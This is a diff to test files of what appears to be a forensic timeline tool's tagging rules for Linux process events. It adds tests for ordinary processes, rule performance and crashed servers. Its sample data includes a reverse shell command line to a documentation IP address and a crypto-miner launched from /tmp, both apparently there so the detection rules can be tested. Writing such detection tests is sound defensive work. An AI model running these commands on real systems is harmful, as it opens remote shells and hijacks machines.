@@ -132,6 +132,13 @@ class RulesTest(TaggingTestCase):
                             self._GetLabels(rules, event_data), [], vars(event_data)
                         )
 
+    def testOrdinary(self):
+        """Tests that no rule but that of every process matches ordinary work."""
+        rules = self._GetRules(self._PATH)
+        for event_data in tagging_test_lib.ReadOrdinary():
+            labels = set(self._GetLabels(rules, event_data))
+            self.assertLessEqual(labels, {"application_execution"}, vars(event_data))
+
     def testOtherEvents(self):
         """Tests that no rule matches what is no process, whatever its attributes."""
         rules = self._GetRules(self._PATH)
@@ -181,12 +188,33 @@ class RulesTest(TaggingTestCase):
             "LD_PRELOAD=" + "/" * 1500,
             "find " + "/var/log" * 190,
             "python -" + "socket" * 250,
+            "curl -o" * 200,
+            "curl " + "-o /tmp" * 200,
+            "curl " + ">" * 1500,
+            "wget " + "-O -" * 350,
+            "cd /tmp" * 200,
+            "cd /tmp; curl " + "-" * 1500,
+            "cd /tmp; wget " * 100,
+            "a -o a.a:1 " + "-" * 1500,
+            "a -o " + "a." * 700,
+            "bash" + " -i" * 500 + " x",
+            "postgres: " + "[local" * 200,
+            "nginx[1] > " * 130,
+            " > " * 500,
         ):
             start_time = time.process_time()
             self._GetLabels(
                 rules,
                 tagging_test_lib.CreateEventData(
-                    text, "sh", parent_command_line=text, parent_process_name="nginx"
+                    text,
+                    "sh",
+                    ancestors=text[:512],
+                    exit_signal=11,
+                    last_process_name="sh",
+                    parent_command_line=text,
+                    parent_process_name="sh",
+                    systemd_unit=text[:255],
+                    username="tomcat",
                 ),
             )
             self.assertLess(time.process_time() - start_time, 0.5, text[:20])
@@ -335,12 +363,28 @@ class PsortTest(end_to_end.ToolsTestCase):
                     (b"sshd", b"/usr/sbin/sshd -D"),
                     (b"bash", b"bash -i >& /dev/tcp/192.0.2.66/443 0>&1"),
                     (b"kworker/0:0", b"/tmp/.x/a -o stratum+tcp://192.0.2.66:3333"),
+                    (b"apache2", b"/usr/sbin/apache2 -k start"),
                     (b"a", b"./a"),
                 )
             )
         ]
         builder.AddSample(1795226000, tasks=tasks)
         tasks[-1]["cpu.utime"] = 350000
+        # It exits within the second of its start.
+        tasks.append(
+            {
+                **tasks[-2],
+                "gen.btime": 1795226100,
+                "gen.cmdline": b"",
+                "gen.elaps": 5,
+                "gen.excode": log_builder.IS_NEW | 11,
+                "gen.name": b"crash",
+                "gen.pid": 4100,
+                "gen.ppid": 4003,
+                "gen.state": b"E",
+                "gen.tgid": 4100,
+            }
+        )
         builder.AddSample(1795229600, interval=3600, tasks=tasks)
         source = cls._GetPath("source")
         os.makedirs(source)
@@ -361,16 +405,20 @@ class PsortTest(end_to_end.ToolsTestCase):
           arguments (list[str]): arguments of psort.
 
         Returns:
-          dict[str, set[str]]: labels per command line or program of a log line.
+          dict[str, set[str]]: labels per command line, or program of a log line or of
+              a process without.
         """
         storage_path = self._Extract(self._source_path, name, "--parsers", "linux")
         labels = {}
         for event in self._ReadEvents(
             storage_path, "--analysis", "tagging", *arguments
         ):
-            key = event.get("command_line", event.get("reporter"))
-            if key:
-                labels[key] = set(event.get("tag", {}).get("labels", []))
+            if event.get("process_name") == "crash":
+                self.assertEqual(event["timestamp_desc"], "Start Time")
+            for key in ("command_line", "reporter", "process_name"):
+                if key in event:
+                    labels[event[key]] = set(event.get("tag", {}).get("labels", []))
+                    break
         return labels
 
     _EXPECTED_LABELS = {
@@ -386,6 +434,8 @@ class PsortTest(end_to_end.ToolsTestCase):
             "temporary_directory_execution",
         },
         "./a": {"application_execution", "sustained_cpu_usage"},
+        "/usr/sbin/apache2 -k start": {"application_execution"},
+        "crash": {"application_execution", "server_program_crash"},
     }
 
     def testTagAtop(self):
